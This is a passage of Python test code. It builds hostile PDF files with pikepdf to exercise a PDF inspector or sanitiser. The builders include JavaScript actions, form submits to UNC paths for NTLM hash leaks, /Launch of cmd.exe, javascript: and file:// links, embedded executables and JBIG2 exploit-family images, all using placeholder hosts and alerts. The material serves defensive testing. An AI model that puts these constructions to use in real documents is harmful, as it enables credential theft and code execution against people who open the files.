                        self.property_list(operand, path)

    def inline_image(self, image: Any, path: str) -> None:
        info = image.obj
        chain = info.get("/Filter")
        for name in [str(f) for f in (chain if isinstance(chain, Array) else [chain] if chain is not None else [])]:
            if name not in INLINE_FILTERS:
                self.refuse(path, f"inline image filter {name}")
        for key in info.keys():
            if key not in ("/Width", "/Height", "/BitsPerComponent", "/ColorSpace", "/Filter", "/DecodeParms",
                           "/Decode", "/ImageMask", "/Interpolate", "/Intent", "/Length"):
                self.refuse(path, f"inline image holds {key}")
        parms = info.get("/DecodeParms")
        for item in parms if isinstance(parms, Array) else [parms] if parms is not None else []:
            if isinstance(item, Dictionary):
                self.keys(item, "decodeparms", f"{path}/inline")

    def property_list(self, props: Dictionary, path: str) -> None:
        for key, value in props.items():
            if key not in ("/MCID", "/Lang", "/Alt", "/ActualText", "/E", "/Type", "/Subtype", "/BBox", "/Attached"):
                self.refuse(path, f"marked-content property {key}")
            elif not _is_scalar(value) and not isinstance(value, Array):
                self.refuse(path, f"marked-content property {key} is a dictionary")


def inspect_pdf(data: bytes) -> tuple[list[str], list[str]]:
    """(problems, oddities) of one PDF's bytes."""
    problems = []
    if not data.startswith(b"%PDF-"):
        problems.append("does not begin with %PDF-")
    if data.count(b"%%EOF") != 1 or not data.rstrip().endswith(b"%%EOF"):
        problems.append(f"{data.count(b'%%EOF')} end markers or bytes after the last")
    if data.count(b"startxref") != 1:
        problems.append(f"{data.count(b'startxref')} startxref keywords: one table written once is expected")
    try:
        pdf = pikepdf.open(io.BytesIO(data))
    except pikepdf.PdfError as error:
        return [*problems, f"does not open: {error}"], []
    with pdf:
        if pdf.is_encrypted:
            problems.append("encrypted")
        inspector = Inspector(pdf)
        try:
            inspector.keys(pdf.trailer, "trailer", "trailer")
        except RecursionError:
            inspector.refuse("trailer", "nested deeper than this inspector can follow")
        for number, page in enumerate(pdf.pages):
            if page.obj.objgen not in {m[0] for m in inspector.seen}:
                inspector.refuse(f"page {number}", "not reachable through the page tree")
    return problems + inspector.problems, inspector.oddities


# ============================================================================ hostile files
def _new() -> tuple[pikepdf.Pdf, Dictionary]:
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=(595, 842)).obj
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    page.Resources = Dictionary(Font=Dictionary(F1=font))
    page.Contents = pdf.make_indirect(Stream(pdf, b"BT /F1 14 Tf 72 760 Td (Shinsei-sho) Tj ET"))
    pdf.Root.AcroForm = Dictionary(Fields=Array(), DA=String("/Helv 0 Tf 0 g"), DR=Dictionary(Font=Dictionary(Helv=font)))
    return pdf, page


def _js(pdf: pikepdf.Pdf, code: str) -> Dictionary:
    return pdf.make_indirect(Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code)))


def _appearance(pdf: pikepdf.Pdf, content: bytes = b"0 0 1 rg 0 0 100 20 re f", **extra: Any) -> Stream:
    stream = Stream(pdf, content)
    stream.Type, stream.Subtype, stream.BBox = Name.XObject, Name.Form, Array([0, 0, 200, 20])
    for key, value in extra.items():
        stream[f"/{key}"] = value
    return pdf.make_indirect(stream)


def _field(pdf: pikepdf.Pdf, page: Dictionary, kind: str, name: str, y: int = 700, **extra: Any) -> Dictionary:
    """A terminal field merged with its widget, on ``page``, in the form's /Fields."""
    field = Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name(kind), T=String(name),
                       Rect=Array([72, y, 272, y + 20]), P=page, F=4, DA=String("/Helv 10 Tf 0 g"),
                       AP=Dictionary(N=_appearance(pdf)))
    for key, value in extra.items():
        field[f"/{key}"] = value
    field = pdf.make_indirect(field)
    page.Annots = Array([*page.get("/Annots", Array()), field])
    pdf.Root.AcroForm.Fields.append(field)
    return field


def _tagged(pdf: pikepdf.Pdf, page: Dictionary, **element: Any) -> Dictionary:
    """A structure tree of one element (with ``element``'s keys) under a Document."""
    root = pdf.make_indirect(Dictionary(Type=Name.StructTreeRoot))
    document = pdf.make_indirect(Dictionary(Type=Name.StructElem, S=Name.Document, P=root, Pg=page))
    child = Dictionary(Type=Name.StructElem, S=Name.P, P=document, Pg=page, K=0)
    for key, value in element.items():
        child[f"/{key}"] = value
    child = pdf.make_indirect(child)
    document.K = Array([child])
    root.K = document
    root.ParentTree = pdf.make_indirect(Dictionary(Nums=Array([0, Array([child])])))
    root.ParentTreeNextKey = 1
    page.StructParents = 0
    page.Contents = pdf.make_indirect(Stream(pdf, b"/P <</MCID 0>> BDC BT /F1 14 Tf 72 760 Td (Tagged) Tj ET EMC"))
    pdf.Root.MarkInfo = Dictionary(Marked=True)
    pdf.Root.StructTreeRoot = root
    return child


def _saved(pdf: pikepdf.Pdf) -> bytes:
    out = io.BytesIO()
    with warnings.catch_warnings():  # an orphan widget is the point of one attack
        warnings.simplefilter("ignore", pikepdf.PageCopyWarning)
        pdf.save(out, static_id=True)
    return out.getvalue()


Builder = Callable[[pikepdf.Pdf, Dictionary], None]
BUILDERS: dict[str, Builder] = {}


def attack(function: Builder) -> Builder:
    BUILDERS[function.__name__.replace("_", "-")] = function
    return function


@attack
def field_scripts_k_f_v_c(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """§12.6.3 table 196: keystroke, format, validate, calculate scripts; the /CO order."""
    aa = Dictionary(K=_js(pdf, "app.alert(1)"), F=_js(pdf, "AFNumber_Format(0)"), V=_js(pdf, "this.submitForm('http://x')"),
                    C=_js(pdf, "app.launchURL('http://attacker.example/')"))
    field = _field(pdf, page, "/Tx", "total", AA=aa)
    pdf.Root.AcroForm.CO = Array([field])


@attack
def widget_appearance_events(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """§12.6.3 table 194: /E /X /D /U /Fo /Bl /PO /PC /PV /PI on a widget."""
    _field(pdf, page, "/Btn", "agree", Ff=0, AS=Name.Off,
           AA=Dictionary(**{k: _js(pdf, f"app.alert('{k}')") for k in ("E", "X", "D", "U", "Fo", "Bl", "PO", "PC", "PV", "PI")}))


@attack
def submit_unc_ntlm(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """A push button that submits to \\\\attacker\\share (NTLM hash leak) by /A and by /AA /U."""
    unc = Dictionary(Type=Name.Filespec, FS=Name.URL, F=String("\\\\192.0.2.1\\share\\x.fdf"))
    _field(pdf, page, "/Btn", "send", Ff=1 << 16, A=Dictionary(S=Name.SubmitForm, F=unc, Flags=4),
           AA=Dictionary(U=Dictionary(S=Name.SubmitForm, F=String("http://192.0.2.1/collect"), Flags=0)))


@attack
def import_gotoe_launch(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """/ImportData, /GoToE into an embedded file, /Launch of cmd.exe on three buttons."""
    _field(pdf, page, "/Btn", "load", 700, Ff=1 << 16, A=Dictionary(S=Name.ImportData, F=String("\\\\192.0.2.1\\s\\d.fdf")))
    _field(pdf, page, "/Btn", "open", 660, Ff=1 << 16,
           A=Dictionary(S=Name.GoToE, NewWindow=True, T=Dictionary(R=Name.C, N=String("payload.pdf")), D=Array([0, Name.Fit])))
    _field(pdf, page, "/Btn", "run", 620, Ff=1 << 16,
           A=Dictionary(S=Name.Launch, Win=Dictionary(F=String("cmd.exe"), P=String("/c calc"))))


@attack
def xfa_script_submit(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """XFA beside the AcroForm fallback: a script on initialize and a <submit> to a UNC path."""
    template = (b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="f">'
                b'<field name="name"><event activity="initialize"><script contentType="application/x-javascript">'
                b'xfa.host.messageBox("x")</script></event></field><field name="b"><event activity="click">'
                b'<submit target="\\\\192.0.2.1\\s" format="xdp"/></event></field></subform></template>')
    pdf.Root.AcroForm.XFA = Array([String("template"), pdf.make_indirect(Stream(pdf, template))])
    _field(pdf, page, "/Tx", "name", V=String("Sato"))


@attack
def richmedia_and_screen(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """/RichMedia with a Flash asset, /Screen with a rendition, /FileAttachment, /Sound."""
    asset = Dictionary(Type=Name.Filespec, F=String("a.swf"), EF=Dictionary(F=pdf.make_indirect(Stream(pdf, b"FWS\x0a"))))
    content = Dictionary(Assets=Dictionary(Names=Array([String("a.swf"), asset])))
    page.Annots = Array([
        pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 100, 100]), RichMediaContent=content)),
        pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Screen, Rect=Array([0, 0, 10, 10]),
                                     A=Dictionary(S=Name.Rendition, JS=String("app.alert(2)")))),
        pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 10, 10]), FS=asset)),
    ])
    _field(pdf, page, "/Tx", "name", V=String("kept"))


@attack
def outline_actions_and_named_dest(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """An outline item with /A JavaScript, one whose /Dest names a destination that is an
    action dictionary, /OpenAction by name, and a GoTo whose /Next runs JavaScript."""
    dests = Dictionary(Names=Array([String("evil"), Dictionary(D=Array([page, Name.Fit]), A=_js(pdf, "app.alert(3)"), S=Name.JavaScript, JS=String("app.alert(4)"))]))
    pdf.Root.Names = Dictionary(Dests=pdf.make_indirect(dests))
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=2))
    second = pdf.make_indirect(Dictionary(Title=String("Named"), Parent=outlines, Dest=String("evil")))
    first = pdf.make_indirect(Dictionary(Title=String("Script"), Parent=outlines, Next=second,
                                         A=Dictionary(S=Name.GoTo, D=Array([page, Name.Fit]), Next=_js(pdf, "app.alert(5)"))))
    second.Prev = first
    outlines.First, outlines.Last = first, second
    pdf.Root.Outlines = outlines
    pdf.Root.OpenAction = String("evil")
    _field(pdf, page, "/Tx", "name")


@attack
def names_javascript_and_next_loop(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """/Names /JavaScript and an /OpenAction GoTo whose /Next chain loops back to itself."""
    first = pdf.make_indirect(Dictionary(S=Name.GoTo, D=Array([page, Name.Fit])))
    second = _js(pdf, "app.alert(6)")
    first.Next, second.Next = second, first
    pdf.Root.OpenAction = first
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), _js(pdf, "app.alert(7)")])))
    pdf.Root.AA = Dictionary(WC=_js(pdf, "app.alert(8)"))
    page.AA = Dictionary(O=_js(pdf, "app.alert(9)"))
    _field(pdf, page, "/Tx", "name")


@attack
def struct_element_actions(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """A structure element whose /A (attributes) is an action, with /AF and /Ref, and an
    element /Pg that is the catalog."""
    filespec = Dictionary(Type=Name.Filespec, F=String("a.exe"), AFRelationship=Name.Data,
                          EF=Dictionary(F=pdf.make_indirect(Stream(pdf, b"MZ\x90\x00", Type=Name.EmbeddedFile))))
    child = _tagged(pdf, page, A=_js(pdf, "app.alert(10)"), AF=Array([filespec]))
    extra = pdf.make_indirect(Dictionary(Type=Name.StructElem, S=Name.Span, P=child.P, Pg=pdf.Root, ActualText=String("x")))
    child.P.K.append(extra)
    child.Ref = Array([Dictionary(S=Name.JavaScript, JS=String("app.alert(11)"))])
    _field(pdf, page, "/Tx", "name")


@attack
def attribute_foreign_owner(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """Attribute objects (§14.7.5) of owner /NSO with a namespace that points at a URL, and
    a /Layout one whose values hide an action; a class map entry that is an action."""
    ns = Dictionary(Type=Name.Namespace, NS=String("http://192.0.2.1/ns"), Schema=Dictionary(FS=Name.URL, F=String("http://192.0.2.1/s")))
    attributes = Array([
        Dictionary(O=Name.NSO, NS=ns, Anything=Dictionary(S=Name.Launch, F=String("calc.exe"))),
        Dictionary(O=Name.Layout, Placement=Name.Block, Bad=Dictionary(S=Name.JavaScript, JS=String("app.alert(12)"))),
    ])
    _tagged(pdf, page, A=attributes, C=Name.Evil)
    pdf.Root.StructTreeRoot.ClassMap = Dictionary(Evil=Dictionary(O=Name.Layout, A=_js(pdf, "app.alert(13)")))
    pdf.Root.StructTreeRoot.RoleMap = Dictionary(Foo=Name.Bar, Bar=Name.Foo, Lnk=Name.Link)
    _field(pdf, page, "/Tx", "name")


@attack
def objr_to_launch_link(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """A Link element whose /K is an OBJR to a link annotation that launches a program, and
    another to a javascript: URI."""
    launch = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 50, 50]), StructParent=1,
                                          A=Dictionary(S=Name.Launch, F=String("\\\\192.0.2.1\\s\\x.exe"))))
    script = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([60, 0, 110, 50]), StructParent=2,
                                          A=Dictionary(S=Name.URI, URI=String("javascript:app.alert(14)"))))
    page.Annots = Array([launch, script])
    child = _tagged(pdf, page, S=Name.Link, K=Array([Dictionary(Type=Name.OBJR, Obj=launch, Pg=page),
                                                     Dictionary(Type=Name.OBJR, Obj=script, Pg=page)]))
    pdf.Root.StructTreeRoot.ParentTree.Nums.extend([1, child, 2, child])
    pdf.Root.StructTreeRoot.ParentTreeNextKey = 3
    _field(pdf, page, "/Tx", "name")


@attack
def huge_texts_in_tags_and_labels(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """/ActualText of 4 MB, a page-label prefix of 100 000 characters, /Lang of 50 000."""
    _tagged(pdf, page, ActualText=String("A" * 4_000_000), Alt=String("\u202etxt.exe"))
    pdf.Root.PageLabels = Dictionary(Nums=Array([0, Dictionary(S=Name.D, P=String("P" * 100_000), St=1)]))
    pdf.Root.Lang = String("ja-JP" + "x" * 50_000)
    _field(pdf, page, "/Tx", "name")


@attack
def number_tree_kids_cycle(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """Page labels and the parent tree as number trees whose /Kids come back to themselves."""
    labels = pdf.make_indirect(Dictionary(Kids=Array(), Limits=Array([0, 0])))
    leaf = pdf.make_indirect(Dictionary(Nums=Array([0, Dictionary(S=Name.r)]), Kids=Array([labels]), Limits=Array([0, 0])))
    labels.Kids.append(leaf)
    labels.Kids.append(labels)
    pdf.Root.PageLabels = labels
    _tagged(pdf, page)
    parent = pdf.Root.StructTreeRoot.ParentTree
    parent.Kids = Array([parent])
    _field(pdf, page, "/Tx", "name")


@attack
def layers_usage_and_expression(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """An OCG with /Usage /Print, an OCMD whose /VE names an action, auto-states on print,
    and an /Order holding a JavaScript action."""
    layer = pdf.make_indirect(Dictionary(Type=Name.OCG, Name=String("Layer"), Usage=Dictionary(
        Print=Dictionary(Subtype=Name.Watermark, PrintState=Name.ON), Export=Dictionary(ExportState=Name.ON))))
    expression = pdf.make_indirect(Dictionary(Type=Name.OCMD, OCGs=layer,
                                              VE=Array([Name.And, layer, _js(pdf, "app.alert(15)")])))
    config = Dictionary(Name=String("d"), ON=Array([layer]), Order=Array([layer, _js(pdf, "app.alert(16)")]),
                        AS=Array([Dictionary(Event=Name.Print, Category=Array([Name.Print]), OCGs=Array([layer]))]))
    pdf.Root.OCProperties = Dictionary(OCGs=Array([layer]), D=config)
    page.Resources.Properties = Dictionary(L1=expression)
    field = _field(pdf, page, "/Tx", "name")
    field.OC = expression


@attack
def default_resources_fonts(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """/DR fonts: a Type 1 whose program is PostScript that runs a file, a Type 3 whose glyph
    uses the PS operator and a procedure set that is a stream, a ToUnicode CMap that runs a file."""
    program = b"%!PS-AdobeFont-1.0: Evil\n(\\\\\\\\192.0.2.1\\\\s\\\\x.ps) run\n/FontName /Evil def\ncurrentfile eexec\n"
    descriptor = Dictionary(Type=Name.FontDescriptor, FontName=Name.Evil, Flags=32, FontBBox=Array([0, 0, 1000, 1000]),
                            ItalicAngle=0, Ascent=800, Descent=-200, CapHeight=700, StemV=80,
                            FontFile=pdf.make_indirect(Stream(pdf, program, Length1=len(program), Length2=0, Length3=0)))
    type1 = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Evil, FirstChar=65, LastChar=65,
                       Widths=Array([500]), FontDescriptor=descriptor,
                       ToUnicode=pdf.make_indirect(Stream(pdf, b"/CIDInit /ProcSet findresource begin (x.ps) run end")))
    glyph = pdf.make_indirect(Stream(pdf, b"500 0 d0 (showpage) PS 0 0 500 500 re f"))
    type3 = Dictionary(Type=Name.Font, Subtype=Name.Type3, FontBBox=Array([0, 0, 500, 500]), FontMatrix=Array([0.001, 0, 0, 0.001, 0, 0]),
                       CharProcs=Dictionary(A=glyph), Encoding=Dictionary(Type=Name.Encoding, Differences=Array([65, Name.A])),
                       FirstChar=65, LastChar=65, Widths=Array([500]),
                       Resources=Dictionary(ProcSet=Array([Name.PDF, pdf.make_indirect(Stream(pdf, b"{} exec"))])))
    pdf.Root.AcroForm.DR = Dictionary(Font=Dictionary(Helv=page.Resources.Font.F1, Ev1=type1, Ev3=type3))
    _field(pdf, page, "/Tx", "name", DA=String("/Ev1 12 Tf 0 g"), V=String("A"))
    _field(pdf, page, "/Tx", "other", 660, DA=String("/Ev3 12 Tf 0 g"), V=String("A"))


@attack
def default_appearance_operators(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """/DA strings that draw, show text, call an XObject and use PostScript (§12.7.3.3 allows
    only text state and colour)."""
    pdf.Root.AcroForm.DA = String("/Helv 0 Tf 0 g q 1000 0 0 1000 0 0 cm /Im0 Do Q (x) Tj (y) PS")
    _field(pdf, page, "/Tx", "name", DA=String("/Helv 12 Tf 0 g BT (injected) Tj ET 0 0 595 842 re f"))
    _field(pdf, page, "/Tx", "other", 660, DA=String("/Helv 12 Tf 1 0 0 rg /GS0 gs"), DS=String("font: 12pt; background: url(http://192.0.2.1/x)"))


@attack
def appearance_opi_ps_ref(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """Appearance streams (/AP /N /D /R, per-state dictionaries) drawing a form with /OPI, a
    PostScript XObject, a reference XObject to an external file, an external stream."""
    opi = _appearance(pdf, b"0 g 0 0 10 10 re f", OPI=Dictionary(**{"2.0": Dictionary(Type=Name.OPI, Version=2.0, F=String("\\\\192.0.2.1\\s\\i.tif"))}))
    postscript = pdf.make_indirect(Stream(pdf, b"(\\\\\\\\192.0.2.1\\\\x) run", Type=Name.XObject, Subtype=Name.PS))
    reference = _appearance(pdf, b"0 g 0 0 10 10 re f", Ref=Dictionary(F=Dictionary(FS=Name.URL, F=String("http://192.0.2.1/r.pdf")), Page=0))
    external = _appearance(pdf, b"", F=Dictionary(FS=Name.URL, F=String("http://192.0.2.1/content")), FFilter=Name.FlateDecode)
    on = _appearance(pdf, b"/X1 Do /X2 Do /X3 Do /X4 Do", Resources=Dictionary(XObject=Dictionary(X1=opi, X2=postscript, X3=reference, X4=external)))
    _field(pdf, page, "/Btn", "agree", AS=Name.Yes, V=Name.Yes,
           AP=Dictionary(N=Dictionary(Yes=on, Off=_appearance(pdf)), D=Dictionary(Yes=postscript, Off=reference), R=external))


@attack
def content_inline_images_and_hidden_ops(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """An appearance with inline images under JBIG2 and JPX filters and a decode dictionary
    naming globals, marked content whose property list holds an action, and PostScript in a
    BX/EX compatibility section."""
    body = (b"q BI /W 1 /H 1 /BPC 1 /IM true /F /JBIG2Decode /DP << /JBIG2Globals 5 0 R >> ID \x00 EI Q "
            b"/Span << /MCID 0 /A << /S /JavaScript /JS (app.alert(17)) >> >> BDC EMC "
            b"BX (x) PS /Evil 1 unknownop EX 0 g 0 0 10 10 re f")
    _field(pdf, page, "/Tx", "name", AP=Dictionary(N=_appearance(pdf, body)))


@attack
def jbig2_globals_image(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """An image XObject under /JBIG2Decode with a /JBIG2Globals stream (the FORCEDENTRY
    family), drawn from a widget's appearance and from the page."""
    globals_ = pdf.make_indirect(Stream(pdf, b"\x00\x00\x00\x00\x30\x00\x01\x00\x00\x00\x13" + b"\xff" * 19))
    image = pdf.make_indirect(Stream(pdf, b"\x00\x00\x00\x01\x00" + b"\xff" * 64, Type=Name.XObject, Subtype=Name.Image,
                                     Width=8, Height=8, ColorSpace=Name.DeviceGray, BitsPerComponent=1,
                                     Filter=Name.JBIG2Decode, DecodeParms=Dictionary(JBIG2Globals=globals_)))
    page.Resources.XObject = Dictionary(Im0=image)
    page.Contents = pdf.make_indirect(Stream(pdf, b"q 100 0 0 100 72 600 cm /Im0 Do Q"))
    _field(pdf, page, "/Tx", "name", AP=Dictionary(N=_appearance(pdf, b"q 10 0 0 10 0 0 cm /Im0 Do Q",
                                                                 Resources=Dictionary(XObject=Dictionary(Im0=image)))))


@attack
def shading_pattern_abuse(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """A tiling pattern whose cell draws a PostScript XObject, a shading whose type 4
    function holds file operators, a pattern dictionary with /AA, a soft mask group with JS."""
    postscript = pdf.make_indirect(Stream(pdf, b"(x) run", Type=Name.XObject, Subtype=Name.PS))
    tile = pdf.make_indirect(Stream(pdf, b"/P0 Do", Type=Name.Pattern, PatternType=1, PaintType=1, TilingType=1,
                                    BBox=Array([0, 0, 10, 10]), XStep=10, YStep=10,
                                    Resources=Dictionary(XObject=Dictionary(P0=postscript)), AA=Dictionary(O=_js(pdf, "app.alert(18)"))))
    function = pdf.make_indirect(Stream(pdf, b"{ (\\\\\\\\192.0.2.1\\\\s) (r) file pop 0 }", FunctionType=4,
                                        Domain=Array([0, 1]), Range=Array([0, 1])))
    shading = pdf.make_indirect(Dictionary(ShadingType=2, ColorSpace=Name.DeviceGray, Coords=Array([0, 0, 1, 0]), Function=function))
    gstate = Dictionary(Type=Name.ExtGState, SMask=Dictionary(S=Name.Luminosity, G=_appearance(pdf, b"0 g 0 0 1 1 re f", AA=Dictionary(O=_js(pdf, "x")))))
    ap = _appearance(pdf, b"/Pattern cs /T0 scn 0 0 10 10 re f /Sh0 sh /G0 gs",
                     Resources=Dictionary(Pattern=Dictionary(T0=tile), Shading=Dictionary(Sh0=shading), ExtGState=Dictionary(G0=gstate)))
    _field(pdf, page, "/Tx", "name", AP=Dictionary(N=ap))


@attack
def signature_lock_sv_reference(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """A signature field with /Lock, /SV, a /V whose /Reference carries /TransformParams and
    /Data pointing at the catalog, a /Perms /DocMDP and /UR3 with scripts beside."""
    value = pdf.make_indirect(Dictionary(Type=Name.Sig, Filter=Name("/Adobe.PPKLite"), SubFilter=Name("/adbe.pkcs7.detached"),
                                         ByteRange=Array([0, 10, 20, 10]), Contents=String(b"\x30\x82" + b"\0" * 64),
                                         Reference=Array([Dictionary(Type=Name.SigRef, TransformMethod=Name.DocMDP,
                                                                     TransformParams=Dictionary(Type=Name.TransformParams, P=1, V=Name("/1.2"),
                                                                                                Script=_js(pdf, "app.alert(19)")),
                                                                     Data=pdf.Root)]),
                                         Prop_Build=Dictionary(App=Dictionary(Name=Name.Evil, OS=Array([Name.Win])))))
    _field(pdf, page, "/Sig", "signature", V=value,
           Lock=Dictionary(Type=Name.SigFieldLock, Action=Name.All),
           SV=Dictionary(Type=Name.SV, Filter=Name("/Adobe.PPKLite"), Ff=1, URL=String("http://192.0.2.1/seed"), URLType=Name.Browser))
    pdf.Root.AcroForm.SigFlags = 3
    pdf.Root.Perms = Dictionary(DocMDP=value, UR3=Dictionary(Type=Name.Sig, Reference=Array([Dictionary(Data=_js(pdf, "app.alert(20)"))])))
    _field(pdf, page, "/Tx", "name", 660)


@attack
def portfolio_and_associated_files(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """A /Collection portfolio with an embedded program, PDF 2.0 /AF on the catalog and the
    page, and /EmbeddedFiles in the name tree."""
    filespec = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("readme.exe"), UF=String("readme.exe"),
                                            AFRelationship=Name.Source,
                                            EF=Dictionary(F=pdf.make_indirect(Stream(pdf, b"MZ\x90\x00", Type=Name.EmbeddedFile)))))
    pdf.Root.Collection = Dictionary(Type=Name.Collection, D=String("readme.exe"), View=Name.H)
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("readme.exe"), filespec])))
    pdf.Root.AF = Array([filespec])
    page.AF = Array([filespec])
    _field(pdf, page, "/Tx", "name", AF=Array([filespec]))


@attack
def field_value_is_fdf(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """A field whose /V is an FDF-like dictionary (a script and a remote file), another whose
    /V is a text stream fetched from a URL (§7.3.8.2 /F), /DV an action."""
    fdf = Dictionary(FDF=Dictionary(F=String("http://192.0.2.1/x.pdf"), JavaScript=Dictionary(Before=String("app.alert(21)"))),
                     S=Name.JavaScript, JS=String("app.alert(22)"))
    _field(pdf, page, "/Tx", "name", V=fdf, DV=_js(pdf, "app.alert(23)"))
    remote = pdf.make_indirect(Stream(pdf, b"", F=Dictionary(FS=Name.URL, F=String("http://192.0.2.1/v.txt"))))
    _field(pdf, page, "/Tx", "remark", 660, V=remote, RV=String('<body><p><a href="http://192.0.2.1/">x</a><script>app.alert(24)</script></p></body>'))


@attack
def choice_options_nested(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """/Opt with nested arrays and an action dictionary, /I indices out of range."""
    options = Array([String("転入"), Array([String("a"), Array([String("b"), _js(pdf, "app.alert(25)")])]),
                     Dictionary(S=Name.JavaScript, JS=String("app.alert(26)")), String("転出")])
    _field(pdf, page, "/Ch", "kubun", Ff=1 << 17, Opt=options, V=String("転入"), I=Array([99999, -1, 0]))


@attack
def field_numbers_out_of_spec(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """/MaxLen negative, /Ff with every bit, choice /I past its options, /Q 99."""
    _field(pdf, page, "/Tx", "name", MaxLen=-5, Ff=-1, Q=99, V=String("abc"))
    _field(pdf, page, "/Ch", "kubun", 660, Ff=0xFFFFFFF, Opt=Array([String("a"), String("b")]), V=String("a"), I=Array([7]))


@attack
def field_tree_loops(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """A field whose /Kids holds itself and its parent, a widget whose /Parent is the
    catalog, and a structure element whose /K is its own parent."""
    parent = pdf.make_indirect(Dictionary(T=String("address"), FT=Name.Tx))
    kid = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Widget, T=String("city"), Parent=parent, Rect=Array([72, 700, 272, 720]),
                                       P=page, V=String("Sapporo"), AP=Dictionary(N=_appearance(pdf)), Kids=Array([parent])))
    parent.Kids = Array([kid, parent])
    stray = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("stray"), Parent=pdf.Root,
                                         Rect=Array([72, 660, 272, 680]), P=page, AP=Dictionary(N=_appearance(pdf))))
    page.Annots = Array([kid, stray])
    pdf.Root.AcroForm.Fields = Array([parent, stray])
    child = _tagged(pdf, page)
    child.K = Array([0, child.P])


@attack
def link_uri_spellings(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """Link annotations to javascript:, file://, a UNC path, mailto with attach=, and an
    http URL behind a control character, as /A and as a widget's /A."""
    targets = ["JaVaScRiPt:app.alert(27)", "file:///C:/Windows/System32/calc.exe", "\\\\192.0.2.1\\share",
               "mailto:a@example.jp?attach=C:\\secret.txt", "\x01javascript:app.alert(28)", " http://x/ \njavascript:x"]
    page.Annots = Array([pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 10 * i, 50, 10 * i + 8]),
                                                      A=Dictionary(S=Name.URI, URI=String(t)))) for i, t in enumerate(targets)])
    _field(pdf, page, "/Btn", "web", Ff=1 << 16, A=Dictionary(S=Name.URI, URI=String("http://192.0.2.1/ok")))


@attack
def widget_icon_and_mk_actions(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """A push button whose /MK icon form carries /AA and a PostScript XObject, whose /BS
    hides an action, and whose /Parent field has /AA (inherited by none, read by some)."""
    icon = _appearance(pdf, b"/PS0 Do", Resources=Dictionary(XObject=Dictionary(PS0=pdf.make_indirect(Stream(pdf, b"x", Type=Name.XObject, Subtype=Name.PS)))),
                       AA=Dictionary(PO=_js(pdf, "app.alert(29)")))
    parent = pdf.make_indirect(Dictionary(T=String("group"), FT=Name.Btn, Ff=1 << 16, AA=Dictionary(D=_js(pdf, "app.alert(30)"))))
    button = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Widget, T=String("b"), Parent=parent, P=page,
                                          Rect=Array([72, 700, 272, 720]), MK=Dictionary(I=icon, CA=String("Go"), Evil=_js(pdf, "x")),
                                          BS=Dictionary(W=1, S=Name.S, A=_js(pdf, "app.alert(31)")), AP=Dictionary(N=_appearance(pdf))))
    parent.Kids = Array([button])
    page.Annots = Array([button])
    pdf.Root.AcroForm.Fields = Array([parent])


@attack
def structure_root_pdf2_externals(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """PDF 2.0 structure-root keys that name files: /Namespaces with a schema URL and a role
    map to a foreign namespace, /PronunciationLexicon on a web server, /AF, and an /IDTree
    whose value is an action."""
    child = _tagged(pdf, page, ID=String("e1"))
    root = pdf.Root.StructTreeRoot
    url = Dictionary(Type=Name.Filespec, FS=Name.URL, F=String("http://192.0.2.1/lexicon.pls"))
    root.Namespaces = Array([Dictionary(Type=Name.Namespace, NS=String("http://192.0.2.1/ns"), Schema=url,
                                        RoleMapNS=Dictionary(Evil=Array([Name.Link, String("http://192.0.2.1/ns")])))])
    root.PronunciationLexicon = Array([url])
    root.AF = Array([url])
    root.IDTree = Dictionary(Names=Array([String("e1"), child, String("e2"), _js(pdf, "app.alert(36)")]))
    _field(pdf, page, "/Tx", "name")


@attack
def link_destinations(pdf: pikepdf.Pdf, page: Dictionary) -> None:
    """A link whose /Dest is a page number of another file, a GoTo whose structure
